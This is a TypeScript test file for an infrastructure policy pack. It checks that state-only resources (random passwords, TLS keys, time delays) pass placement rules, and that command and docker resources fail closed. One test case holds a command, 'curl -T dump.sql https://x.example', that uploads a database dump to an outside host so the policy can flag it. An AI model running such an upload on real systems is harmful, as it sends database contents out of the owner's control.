/**
 * Resources of the packages that live only in the stack's state (random, time, tls) pass
 * `reviewed-resource-types` and `resource-placement`: no cloud API, no region, no data path. Any
 * other package the pack does not classify still fails closed — once, by
 * reviewed-resource-types: it has no region for resource-placement to pin.
 */
import type { Plan } from "../../engine/plan";
import { add, addProvider, fixturePlan, pipe } from "../helpers/policy-plan";
import { oregonSettings, policyPack, runCases } from "../helpers/policy-session";

const pack = policyPack();
let happy: Plan;
beforeAll(async () => {
  happy = await fixturePlan("policy-aws", "us");
});

/** A resource of another package, through that package's provider (no config: no region). */
const addOf = (type: string, name: string, inputs: Record<string, unknown>) => {
  const pkg = type.split(":")[0];
  return pipe(
    addProvider(pkg, `${pkg}-provider`, {}),
    add(type, name, inputs, { provider: `${pkg}-provider` }),
  );
};

describe("packages whose resources live only in the stack's state", () => {
  runCases(pack, () => happy, oregonSettings, [
    {
      name: "a command of the command package runs a program (not state-only)",
      bad: addOf("command:local:Command", "export", {
        create: "curl -T dump.sql https://x.example",
      }),
      expected: [
        [
          "reviewed-resource-types",
          "export",
          "mandatory",
          [
            'local command "export"',
            "command:local:Command (unclassified: where it sends data cannot be placed)",
          ],
        ],
        // Its script's upload is judged as a compute's is.
        [
          "arn-locality",
          "export",
          "mandatory",
          ['local command "export"', "x.example (a host the pack cannot place in a country)"],
        ],
      ],
      twinName: "a random password of the random package is created",
      twin: addOf("random:index/randomPassword:RandomPassword", "db-password", { length: 24 }),
    },
    {
      name: "a docker image of the docker package is built and pushed (not state-only)",
      bad: addOf("docker:index/image:Image", "app", { imageName: "registry.example/app" }),
      expected: [
        // Pushed to a registry that is no cloud registry of a region: a place it cannot place.
        [
          "registry-replication",
          "app",
          "mandatory",
          [
            "its provider's image builder",
            'docker image "app"',
            '"registry.example/app" (cannot be placed)',
          ],
        ],
      ],
      twinName: "a private key of the tls package and a delay of the time package are created",
      twin: pipe(
        addOf("tls:index/privateKey:PrivateKey", "signing", { algorithm: "ED25519" }),
        addOf("time:index/sleep:Sleep", "wait", { createDuration: "30s" }),
      ),
    },
  ]);
});
